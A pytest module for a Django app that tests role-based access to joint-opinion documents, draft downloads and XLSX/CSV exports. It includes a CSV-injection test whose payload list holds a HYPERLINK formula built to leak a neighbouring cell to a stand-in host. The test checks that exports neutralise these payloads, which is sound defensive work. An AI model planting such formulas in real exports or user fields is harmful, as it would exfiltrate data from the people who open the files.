"""Who may download what: the avis conjoint (print view, PDF, DOCX), its PROJET draft, and the XLSX/CSV exports.

Each table says, for one URL, what each role of the cast gets: LOGIN (anonymous: redirected to the login
page), the status of a refusal, or what the document holds: the projects by title, the verdicts by dossier.
"""

import csv
import html
import io
import uuid

import pytest
from django.test import Client
from django.urls import reverse
from django.utils.text import slugify
from docx import Document
from openpyxl import load_workbook
from pypdf import PdfReader

from core.models import Dossier, JointOpinion, Opinion, Organisation
from tests import access
from tests.access import A_DRAFT, A_TITLE, B_DRAFT, B_TITLE, LOGIN
from tests.factories import DossierFactory

BOTH = {A_TITLE, B_TITLE}
PENDING_TITLE = "Projet en attente d'avis"
PDF = "application/pdf"
DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
CONTENT_TYPES = {"pdf": PDF, "docx": DOCX, "xlsx": XLSX, "csv": "text/csv; charset=utf-8"}


@pytest.fixture(scope="module")
def module_client():
    return Client()


@pytest.fixture
def client(module_client):
    """One test client for the module (the `login` fixture logs it out first): a new client loads the middleware
    again, and WhiteNoise's scan of the static files would take most of each test's time."""
    return module_client


def body(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def document_text(response, kind: str) -> str:
    """What a reader sees of the document: the page's text, every page of the PDF, every paragraph of the DOCX."""
    data = body(response)
    if kind == "pdf":
        return "\n".join(page.extract_text() for page in PdfReader(io.BytesIO(data)).pages)
    if kind == "docx":
        document = Document(io.BytesIO(data))
        cells = [cell for table in document.tables for row in table.rows for cell in row.cells]
        return "\n".join(p.text for p in [*document.paragraphs, *(p for cell in cells for p in cell.paragraphs)])
    return html.unescape(data.decode())


def check_refusal(response, expected) -> None:
    """Nothing of either dossier in a refusal, whatever the kind of file."""
    secrets = (A_TITLE, B_TITLE, A_DRAFT, B_DRAFT)
    access.check_refusal(response, expected, secrets, body=html.unescape(body(response).decode(errors="replace")))


def check_attachment(response, filename: str) -> None:
    assert response.status_code == 200
    assert response["Content-Type"] == CONTENT_TYPES[filename.rsplit(".", 1)[1]]
    assert response["Content-Disposition"] == f'attachment; filename="{filename}"'


def committee_slug(cast) -> str:
    """How file names call the cast's committee: it has no region, so its name."""
    return f"{slugify(cast.committee.name)}-{cast.committee.call.year}"


# --- The published avis conjoint ------------------------------------------------------------------

# role -> status of version 1 (print view, PDF, DOCX), and the projects it shows
JOINT_OPINION = {
    "anonymous": (LOGIN, set()),
    "landlord": (200, {A_TITLE}),
    "other_landlord": (200, {B_TITLE}),
    "member": (200, BOTH),
    "member_in_conflict": (200, BOTH),
    "other_committee_member": (404, set()),
    "secretariat": (200, BOTH),
    "observer": (200, BOTH),
    "other_committee_observer": (404, set()),
}


def joint_opinion_url(cast, kind: str, key: uuid.UUID | None = None) -> str:
    """The URL of version 1 of the cast's avis conjoint, or of the document named `key`."""
    key = key or JointOpinion.objects.get(committee=cast.committee, version=1).uuid
    if kind == "print":
        return reverse("joint_opinion_print", args=[key])
    return reverse("joint_opinion_download", args=[key, kind])


@pytest.mark.parametrize("kind", ["print", "pdf", "docx"])
@pytest.mark.parametrize("role", JOINT_OPINION)
def test_joint_opinion_document(published, login, role, kind):
    status, shown = JOINT_OPINION[role]
    response = login(published.users[role]).get(joint_opinion_url(published, kind))
    if status != 200:
        check_refusal(response, status)
        return
    if kind == "print":
        assert response.status_code == 200
    else:
        check_attachment(response, f"avis-conjoint-{committee_slug(published)}-v1.{kind}")
    text = document_text(response, kind)
    assert {title for title in BOTH if title in text} == shown
    # Version 1 as published: the opinions' remarks of the time, without the PROJET mark.
    assert {title for title, remarks in ((A_TITLE, A_DRAFT), (B_TITLE, B_DRAFT)) if remarks in text} == shown
    assert "PROJET —" not in text


def test_a_landlords_docx_holds_its_own_project_only(published, login):
    response = login(published.users["landlord"]).get(joint_opinion_url(published, "docx"))
    document = Document(io.BytesIO(response.content))
    (table,) = document.tables
    assert table.rows[1].cells[0].text == f"Nom du projet : « {A_TITLE} »"
    assert B_TITLE not in document_text(response, "docx")


@pytest.mark.parametrize("kind", ["print", "pdf", "docx"])
def test_an_unknown_document_is_not_found(published, login, kind):
    response = login(published.users["secretariat"]).get(joint_opinion_url(published, kind, key=uuid.uuid4()))
    assert response.status_code == 404


def test_documents_are_not_found_by_counting(published, login):
    """The committee's id and the version number no longer name a document: the old addresses are gone."""
    client = login(published.users["secretariat"])
    committee, call = published.committee, published.committee.call
    for path in (
        f"/comites/{committee.pk}/avis-conjoint/v1/",
        f"/comites/{committee.pk}/avis-conjoint/v1.pdf",
        f"/comites/{committee.pk}/avis-conjoint/projet.pdf",
        f"/comites/{committee.pk}/dossiers.csv",
        f"/appels/{call.pk}/dossiers.csv",
    ):
        assert client.get(path).status_code == 404, path


# --- The PROJET draft -----------------------------------------------------------------------------

# role -> status of the draft, and the projects it shows
DRAFT = {
    "anonymous": (LOGIN, set()),
    "landlord": (404, set()),
    "other_landlord": (404, set()),
    "member": (200, BOTH),
    "member_in_conflict": (200, {B_TITLE}),
    "other_committee_member": (404, set()),
    "secretariat": (200, BOTH),
    "observer": (403, set()),
    "other_committee_observer": (404, set()),
}


# format -> whether a document's text is marked PROJET: the PDF's watermark comes first on the page.
DRAFT_MARKED = {
    "pdf": lambda text: text.splitlines()[0] == "PROJET",
    "docx": lambda text: "PROJET — document de travail, non publié." in text.splitlines(),
}


@pytest.mark.parametrize("kind", DRAFT_MARKED)
@pytest.mark.parametrize("role", DRAFT)
def test_draft_document(cast, login, role, kind):
    status, shown = DRAFT[role]
    response = login(cast.users[role]).get(reverse("committee_draft_download", args=[cast.committee.uuid, kind]))
    if status != 200:
        check_refusal(response, status)
        return
    check_attachment(response, f"avis-conjoint-{committee_slug(cast)}-projet.{kind}")
    text = document_text(response, kind)
    assert {title for title in BOTH if title in text} == shown
    assert {title for title, remarks in ((A_TITLE, A_DRAFT), (B_TITLE, B_DRAFT)) if remarks in text} == shown
    assert DRAFT_MARKED[kind](text)


@pytest.mark.parametrize("kind", DRAFT_MARKED)
def test_draft_document_with_a_dossier_awaiting_its_opinion(cast, login, kind):
    DossierFactory(committee=cast.committee, title=PENDING_TITLE)
    response = login(cast.users["member"]).get(reverse("committee_draft_download", args=[cast.committee.uuid, kind]))
    assert response.status_code == 200
    assert PENDING_TITLE in document_text(response, kind)


# --- XLSX and CSV exports -------------------------------------------------------------------------

# What the export shows of an opinion: (Avis, Retenu, Rang).
HIDDEN = ("", "", "")
PUBLISHED_V1 = ("Favorable", "oui", "P1")
# After version 1, the committee keeps working: the drafts change.
DRAFTS = {A_TITLE: ("reserve", True, "P2"), B_TITLE: ("defavorable", False, "")}
DRAFT_A, DRAFT_B = ("Réservé", "oui", "P2"), ("Défavorable", "non", "")

# role -> status of the committee's export, or {published: the opinions it shows for (A, B)}
COMMITTEE_EXPORT = {
    "anonymous": LOGIN,
    "landlord": 404,
    "other_landlord": 404,
    "member": {False: (DRAFT_A, DRAFT_B), True: (DRAFT_A, DRAFT_B)},
    "member_in_conflict": {False: (HIDDEN, DRAFT_B), True: (PUBLISHED_V1, DRAFT_B)},
    "other_committee_member": 404,
    "secretariat": {False: (DRAFT_A, DRAFT_B), True: (DRAFT_A, DRAFT_B)},
    "observer": {False: (HIDDEN, HIDDEN), True: (PUBLISHED_V1, PUBLISHED_V1)},
    "other_committee_observer": 404,
}
# role -> the same for the call's export: the secretariat and the national observers only
CALL_EXPORT = {
    role: expected if role in {"secretariat", "observer", "anonymous"} else 403
    for role, expected in COMMITTEE_EXPORT.items()
}


@pytest.fixture(params=[False, True], ids=["unpublished", "published"])
def working(request, cast):
    """The cast, with or without a version 1, its drafts changed since."""
    if request.param:
        request.getfixturevalue("published")
    for title, (verdict, retained, rank) in DRAFTS.items():
        Opinion.objects.filter(dossier__title=title).update(verdict=verdict, retained=retained, rank=rank)
    cast.is_published = request.param
    return cast


def export_rows(response, extension: str) -> list[list]:
    data = body(response)
    if extension == "xlsx":
        sheet = load_workbook(io.BytesIO(data)).active
        return [["" if value is None else value for value in row] for row in sheet.iter_rows(values_only=True)]
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))


@pytest.fixture
def exported(login, django_capture_on_commit_callbacks):
    """The file a user gets by asking for an export (its task runs once the request is saved) and downloading it;
    the answer to the request when it is refused."""

    def export(user, name: str, key, extension: str):
        client = login(user)
        with django_capture_on_commit_callbacks(execute=True):
            response = client.post(reverse(name, args=[key]), {"format": extension})
        if response.status_code != 302 or not response["Location"].startswith("/exports/"):
            return response
        assert "Prêt" in client.get(response["Location"]).content.decode()
        return client.get(response["Location"] + "fichier/")

    return export


def shown_opinions(rows: list[list]) -> dict[str, tuple]:
    header, *rows = rows
    column = {name: index for index, name in enumerate(header)}
    return {row[column["Projet"]]: tuple(row[column[name]] for name in ("Avis", "Retenu", "Rang")) for row in rows}


EXPORTS = {
    "committee": (COMMITTEE_EXPORT, "committee_export", lambda cast: cast.committee.uuid, committee_slug),
    "call": (
        CALL_EXPORT,
        "call_export",
        lambda cast: cast.committee.call.uuid,
        lambda cast: f"appel-{cast.committee.call.year}",
    ),
}


@pytest.mark.parametrize("extension", ["xlsx", "csv"])
@pytest.mark.parametrize("export", EXPORTS)
@pytest.mark.parametrize("role", COMMITTEE_EXPORT)
def test_export(working, exported, role, export, extension):
    table, name, key, slug = EXPORTS[export]
    expected = table[role]
    response = exported(working.users[role], name, key(working), extension)
    if not isinstance(expected, dict):
        check_refusal(response, expected)
        return
    check_attachment(response, f"dossiers-{slug(working)}.{extension}")
    a, b = expected[working.is_published]
    assert shown_opinions(export_rows(response, extension)) == {A_TITLE: a, B_TITLE: b}


@pytest.mark.parametrize("extension", ["xlsx", "csv"])
def test_export_of_a_dossier_awaiting_its_opinion(cast, exported, extension):
    DossierFactory(committee=cast.committee, title=PENDING_TITLE)
    response = exported(cast.users["member"], "committee_export", cast.committee.uuid, extension)
    opinions = shown_opinions(export_rows(response, extension))
    assert opinions[PENDING_TITLE] == HIDDEN
    assert set(opinions) == {*BOTH, PENDING_TITLE}


# What a landlord could name a project so that the committee's spreadsheet sends a neighbouring cell away.
FORMULAS = ['=HYPERLINK("http://x?leak="&F3,"Voir")', "+1+1", "-2+3", "@SUM(1)", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("formula", FORMULAS)
@pytest.mark.parametrize("export", EXPORTS)
def test_an_export_writes_every_text_as_text(cast, exported, export, formula):
    """OWASP's "CSV injection": the XLSX cell is a text (not a formula), marked with the quote prefix; the CSV
    cell starts with a quote. Numbers stay numbers."""
    Dossier.objects.filter(pk=cast.dossier.pk).update(title=formula)
    Organisation.objects.filter(pk=cast.dossier.lead_landlord_id).update(name=f"{formula} HLM")
    _, name, key, _ = EXPORTS[export]
    secretariat = cast.users["secretariat"]
    sheet = load_workbook(io.BytesIO(body(exported(secretariat, name, key(cast), "xlsx")))).active
    header = [cell.value for cell in sheet[1]]
    row = next(row for row in sheet.iter_rows(min_row=2) if row[header.index("N°")].value == cast.dossier.number)
    for column in ("Projet", "Bailleur social"):
        cell = row[header.index(column)]
        assert (cell.data_type, cell.quotePrefix) == ("s", True)
        # A carriage return is written escaped (OOXML's _x000D_), which Excel reads back and openpyxl does not.
        assert cell.value.replace("_x000D_", "\r").removesuffix(" HLM") == formula
    assert row[header.index("Ménages")].data_type == "n"
    rows = export_rows(exported(secretariat, name, key(cast), "csv"), "csv")
    line = next(line for line in rows if line[rows[0].index("N°")] == str(cast.dossier.number))
    assert line[rows[0].index("Projet")] == f"'{formula}"
    assert line[rows[0].index("Bailleur social")] == f"'{formula} HLM"


@pytest.mark.parametrize("title", ["Projet = accompagnement", "Ménages à -20 %", "'Chez soi' d'abord"])
def test_an_export_leaves_other_texts_as_they_are(cast, exported, title):
    Dossier.objects.filter(pk=cast.dossier.pk).update(title=title)
    rows = export_rows(exported(cast.users["secretariat"], "committee_export", cast.committee.uuid, "csv"), "csv")
    assert title in [line[rows[0].index("Projet")] for line in rows]


# --- Unknown formats ------------------------------------------------------------------------------

# URL name -> the uuid that names the document; the formats of the other downloads are unknown to it.
DOWNLOADS = {
    "joint_opinion_download": (lambda cast: cast.committee.joint_opinions.get().uuid, ["txt", "PDF", "xlsx", "html"]),
    "committee_draft_download": (lambda cast: cast.committee.uuid, ["txt", "DOCX", "csv", "pdf.zip"]),
}


@pytest.mark.parametrize(
    ("name", "extension"),
    [(name, extension) for name, (_, extensions) in DOWNLOADS.items() for extension in extensions],
)
def test_an_unknown_format_is_not_found(published, login, name, extension):
    key = DOWNLOADS[name][0](published)
    response = login(published.users["secretariat"]).get(reverse(name, args=[key, extension]))
    check_refusal(response, 404)
